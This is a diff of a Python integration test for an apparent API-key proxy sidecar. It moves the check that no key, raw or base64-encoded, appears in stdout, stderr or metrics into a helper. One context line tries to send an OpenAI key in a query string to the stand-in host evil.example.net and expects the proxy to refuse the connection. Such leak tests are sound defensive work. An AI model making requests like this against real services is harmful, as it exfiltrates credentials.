@@ -7,7 +7,6 @@ hosts. Keys live in a directory laid out the way Kubernetes mounts a Secret.
 
 from __future__ import annotations
 
-import base64
 import json
 import ssl
 import threading
@@ -20,7 +19,7 @@ import pytest
 
 from tests.integration.test_explicit_proxy import connect_status
 from tests.support.fakes import FakeProvider
-from tests.support.keys import KEYS, LEAKED_GATEWAY_KEY
+from tests.support.keys import KEYS, LEAKED_GATEWAY_KEY, assert_not_in_outputs
 from tests.support.sidecar import SidecarProcess
 
 pytestmark = pytest.mark.integration
@@ -306,16 +305,7 @@ def test_no_key_in_any_output(keyed, provider):
         )
         with pytest.raises(httpx.ProxyError):
             c.get("https://evil.example.net/?key=" + KEYS["openai"])
-    outputs = {
-        "stdout": "".join(keyed.stdout_lines),
-        "stderr": "".join(keyed.stderr_lines),
-        "metrics": keyed.metrics(),
-    }
-    for name, value in KEYS.items():
-        forms = {value, base64.b64encode(value.encode()).decode()}
-        for where, text in outputs.items():
-            for form in forms:
-                assert form not in text, f"{name} key found in {where}"
+    assert_not_in_outputs(keyed, {f"{name} key": value for name, value in KEYS.items()})
 
 
 def test_refused_connect_error_body_has_no_key(keyed):
